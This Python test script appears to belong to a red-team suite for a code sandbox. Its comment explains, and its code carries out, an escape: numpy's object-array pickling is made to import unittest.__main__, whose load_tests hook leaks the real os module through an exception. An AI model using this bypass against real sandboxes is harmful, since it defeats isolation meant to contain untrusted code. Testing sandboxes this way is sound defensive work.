# (data policy) np.save of an object array pickles it from numpy's own frame; the C pickler
# imports a function's __module__, which the job sets, with the real __import__: any module,
# its import-time code run. unittest.__main__ runs unittest.main() on sys.argv (the job's to
# append to): the loader imports the job's main module and calls its load_tests hook with a
# real TestLoader, whose loadTestsFromName("os.x") fails with an AttributeError whose .obj is
# the real os. From there: the real builtins, compile, and the guard's closures. Found by a
# red-team review. Prints the marker only if the forbidden operation succeeded. Run ONLY
# through `codeq run`.
import sys

import numpy as np

NAME = "168_pickle_imports_module_by_name"
got = []


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


def load_tests(loader, tests, pattern):
    suite = loader.loadTestsFromName("os.codeq_missing")
    got.append(list(suite)[0]._exception.obj)
    return tests


def f():
    return 0


sys.argv.append("__main__")
f.__module__ = "unittest.__main__"
try:
    np.save("x.npy", np.array([f], dtype=object))
except Exception as e:
    print("pickle:", type(e).__name__)
if got:
    won(got[0].getpid())
